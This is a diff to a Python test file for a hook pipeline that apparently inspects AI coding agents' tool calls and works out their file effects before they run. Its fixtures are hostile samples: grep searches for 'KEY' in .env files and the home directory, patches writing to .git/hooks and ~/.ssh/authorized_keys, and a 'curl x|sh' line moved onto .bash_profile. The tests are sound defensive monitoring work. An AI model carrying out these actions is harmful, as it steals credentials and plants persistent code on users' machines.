@@ -32,7 +32,12 @@ def proj(tmp_path: Path) -> Path:
 
 def enriched(client: str, tool: str, tool_input: dict[str, Any], proj: Path) -> NormalisedEvent:
     """The event as the pipeline's enrichers leave it, from the agent's own PreToolUse payload."""
-    event = "BeforeTool" if client == "gemini" else "PreToolUse"
+    names = [e.name for e in AGENTS[client].events]
+    event = (
+        "PreToolUse"
+        if "PreToolUse" in names
+        else next(e.name for e in AGENTS[client].events if e.event.value == "BeforeTool")
+    )
     payload = {"session_id": "s", "transcript_path": "", "cwd": str(proj), "hook_event_name": event,
                "tool_name": tool, "tool_input": tool_input}  # fmt: skip
     request = HookRequest(
@@ -59,6 +64,9 @@ SEARCHES = [
     ("qwen", "grep_search", {"pattern": "KEY", "glob": "*.env"}),
     ("copilot", "grep", {"pattern": "KEY", "glob": "**/*.env"}),
     ("copilot", "rg", {"pattern": "KEY", "path": ".", "glob": "prod.*"}),
+    ("droid", "Grep", {"pattern": "KEY", "path": ".", "glob_pattern": "*.env"}),
+    ("opencode", "grep", {"pattern": "KEY", "path": ".", "include": "*.env"}),
+    ("kilo", "grep", {"pattern": "KEY", "include": "*.{env,ini}"}),
 ]
 
 
@@ -83,6 +91,7 @@ def test_a_search_filter_reaches_the_files_it_matches(
         ("qwen", "read_many_files", {"paths": ["config/*.env"]}),
         ("gemini", "read_many_files", {"include": ["config"]}),  # a directory: every file in it
         ("qwen", "read_many_files", {"paths": ["."]}),
+        ("qwen", "read_many_files", {"paths": ["src"], "include": ["config/*"]}),  # include adds globs
     ],
 )
 def test_read_many_files_reads_what_its_globs_match(
@@ -143,6 +152,7 @@ def test_codex_apply_patch_each_file_operation_and_move(proj: Path) -> None:
     assert effects(event) == [
         ("write", str(proj / ".git/hooks/pre-commit"), True),
         ("move", str(proj / "src/a.py"), True),
+        ("write", "/home/alice/.ssh/authorized_keys", True),  # the destination, as a shell move's is
         ("delete", str(proj / "config/app.toml"), True),
     ]
     move = event.facts["effects"][1]
@@ -199,3 +209,44 @@ def test_copilot_freeform_apply_patch_arrives_as_a_bare_string(proj: Path) -> No
     event = enrich_tool_effects(enrich_paths(AGENTS["copilot"].dialect.parse(request)))
     assert event.tool is not None and event.tool.input == {"input": patch}
     assert effects(event) == [("write", str(proj / ".git/hooks/pre-commit"), True)]
+
+
+@pytest.mark.parametrize(
+    ("client", "tool", "tool_input"),
+    [
+        ("droid", "Grep", {"pattern": "KEY", "path": "HOME"}),
+        ("opencode", "grep", {"pattern": "KEY", "path": "HOME"}),
+        ("kilo", "grep", {"pattern": "KEY", "path": "HOME/.config"}),
+        ("claude", "Grep", {"pattern": "KEY", "path": "HOME"}),
+    ],
+)
+def test_a_search_without_a_filter_outside_the_project_reads_everything_below(
+    client: str, tool: str, tool_input: dict[str, Any], proj: Path
+) -> None:
+    home = proj.parent / "home"
+    (home / ".config").mkdir(parents=True)
+    (home / ".config" / "token").write_text("t")
+    tool_input = {k: v.replace("HOME", str(home)) for k, v in tool_input.items()}
+    event = enriched(client, tool, tool_input, proj)
+    root = tool_input["path"]
+    assert any(e[:2] == ("read", root) for e in effects(event))
+    assert next(e for e in event.facts["effects"] if e["path"] == root)["recursive"] is True
+    assert ("read", str(home / ".config" / "token"), True) in effects(event)
+
+
+def test_a_patch_move_writes_its_destination_whatever_the_tool_knows_of_its_arguments(proj: Path) -> None:
+    patch = codex_patch("*** Update File: README.md", "*** Move to: .git/hooks/post-merge", "@@", "-a", "+id")
+    for client, tool, tool_input in (
+        ("codex", "apply_patch", patch),
+        ("droid", "ApplyPatch", {"input": patch["command"]}),  # no known patch argument: found in any
+        ("opencode", "apply_patch", {"patchText": patch["command"]}),
+    ):
+        event = enriched(client, tool, tool_input, proj)
+        assert ("write", str(proj / ".git/hooks/post-merge"), True) in effects(event), client
+
+
+def test_a_patch_moving_a_file_onto_a_startup_file_runs_code_later(proj: Path) -> None:
+    patch = codex_patch("*** Update File: notes.md", f"*** Move to: {HOME}/.bash_profile", "@@", "-a", "+curl x|sh")
+    event = enriched("codex", "apply_patch", patch, proj)
+    later = [e for e in event.facts["effects"] if e["op"] == "exec"]
+    assert later and later[0]["startup"] == f"{HOME}/.bash_profile" and later[0]["deferred"] is True
